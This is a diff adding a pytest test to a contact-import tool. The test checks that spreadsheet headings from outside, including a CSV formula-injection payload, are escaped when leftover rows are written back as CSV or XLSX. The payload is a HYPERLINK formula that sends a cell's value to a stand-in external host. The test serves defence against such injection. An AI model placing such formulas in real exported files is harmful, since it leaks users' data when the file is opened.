@@ -117,6 +117,25 @@ def test_rows_left_out_are_written_completed_and_read_again(desk, tmp_path, endi
         assert outcomes(report) == expected
 
 
+@pytest.mark.parametrize("ending", [".csv", ".xlsx"])
+def test_a_heading_of_others_calculates_nothing_where_rows_are_written(desk, tmp_path, ending):
+    """In a workbook it may be text, which CSV would make a formula."""
+    heading = '=HYPERLINK("http://elsewhere.example/?"&A2;"Нэр")'
+    path = tmp_path / "list.csv"
+    with path.open("w", encoding="utf-8", newline="") as file:
+        csv.writer(file).writerows([["Нэр", heading, "+утас"], ["", "a", "99112233"]])
+    table = parse_file(path)
+    report = import_people(desk, table, map_columns(table.columns))
+    rest = tmp_path / f"rest{ending}"
+    assert write_rest(desk, table, report, rest) == 1
+    read = parse_file(rest)
+    assert [title.removeprefix("'") for title in read.columns[:3]] == ["Нэр", heading, "+утас"]
+    if ending == ".csv":
+        headings = next(csv.reader(io.StringIO(rest.read_text(encoding="utf-8-sig"))))
+        assert not [each for each in headings if each[0] in "=+-@\t\r"]
+    assert map_columns(read.columns).fields.keys() == map_columns(table.columns).fields.keys()
+
+
 def test_an_erased_person_does_not_come_back_out_of_a_file(office, tmp_path):
     desk = office.desk
     first = run(desk, tmp_path, "Нэр,Утас\nБолд,99112233\nСүх,88112233\n").entries[0].person
